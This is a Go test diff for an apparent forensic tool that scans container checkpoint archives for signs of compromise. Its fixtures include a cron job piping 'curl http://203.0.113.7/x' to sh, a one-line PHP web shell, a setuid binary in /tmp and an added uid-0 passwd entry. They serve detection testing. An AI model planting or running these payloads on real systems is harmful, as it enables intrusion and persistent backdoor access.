@@ -8,7 +8,9 @@ import (
 	"slices"
 	"strings"
 	"testing"
+	"time"
 
+	"lagan/checkpoint"
 	"lagan/evidence"
 	"lagan/findings"
 	"lagan/timeline"
@@ -68,6 +70,64 @@ func TestCheckpoints(t *testing.T) {
 	}
 	if len(told) != 2+4+4 || !slices.ContainsFunc(told, func(s string) bool { return strings.Contains(s, "stratum+tcp") }) {
 		t.Errorf("the timeline tells %q", told)
+	}
+}
+
+// TestCheckpointFindings holds an archive's processes and changed files against the rules.
+func TestCheckpointFindings(t *testing.T) {
+	for name, want := range map[string][]string{
+		"web": {"miner /tmp/.x/dnsd", "process-deleted-executable /tmp/.x/dnsd", "process-changed-executable /malicious", "image-files-deleted /etc/debian_version", "log-deleted /var/log/apt/history.log"},
+		"api": {"process-kernel-name /dev/shm/.k/kworker", "process-sniffs /dev/shm/.k/kworker", "program-hidden /dev/shm/.k/kworker", "image-files-deleted /etc/hostname.bak"},
+	} {
+		c, err := OpenCheckpoint(t.Context(), "../checkpoint/testdata/"+name+".tar.gz", Options{})
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer c.Close()
+		all, err := CheckpointFindings(t.Context(), c, FindOptions{})
+		if err != nil {
+			t.Fatal(err)
+		}
+		var got []string
+		for _, f := range all {
+			for _, e := range f.Evidence {
+				got = append(got, f.Rule.ID+" "+e.Path)
+			}
+		}
+		for _, w := range want {
+			if !slices.Contains(got, w) {
+				t.Errorf("%s: no finding %s in %q", name, w, got)
+			}
+		}
+	}
+}
+
+// TestCheckpointChange holds changed files as an archive has them against the rules: their beginnings.
+func TestCheckpointChange(t *testing.T) {
+	file := func(name, text string, mode int64) checkpoint.Changed {
+		return checkpoint.Changed{Path: name, Type: '0', Mode: mode, Size: int64(len(text)), Head: []byte(text), Mtime: time.Unix(1790000000, 0)}
+	}
+	c := &Checkpoint{Checkpoint: &checkpoint.Checkpoint{Name: "x", ID: "1", Changed: []checkpoint.Changed{
+		file("/etc/passwd", "root:x:0:0:root:/root:/bin/sh\ndaemon:x:1:1::/:/bin/false\n", 0o644),
+		file("/etc/cron.d/0", "* * * * * root curl http://203.0.113.7/x | sh\n", 0o644),
+		file("/usr/share/nginx/html/s.php", "<?php system($_GET[0]);?>", 0o644),
+		file("/tmp/suid", "\x7fELF", 0o4755),
+	}}}
+	all, err := CheckpointFindings(t.Context(), c, FindOptions{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	var got []string
+	for _, f := range all {
+		got = append(got, f.Rule.ID)
+	}
+	slices.Sort(got)
+	if want := []string{"accounts-changed", "download-run", "program-in-temp", "setuid-gained", "web-shell"}; !slices.Equal(got, want) {
+		t.Errorf("findings %q, want %q", got, want)
+	}
+	c.Changed[0] = file("/etc/passwd", "root:x:0:0:root:/root:/bin/sh\nx:x:0:0::/:/bin/sh\n", 0o644)
+	if all, err = CheckpointFindings(t.Context(), c, FindOptions{}); err != nil || !slices.ContainsFunc(all, func(f *findings.Finding) bool { return f.Rule.ID == "account-uid0" }) {
+		t.Errorf("no finding of a second root, %v", err)
 	}
 }
 
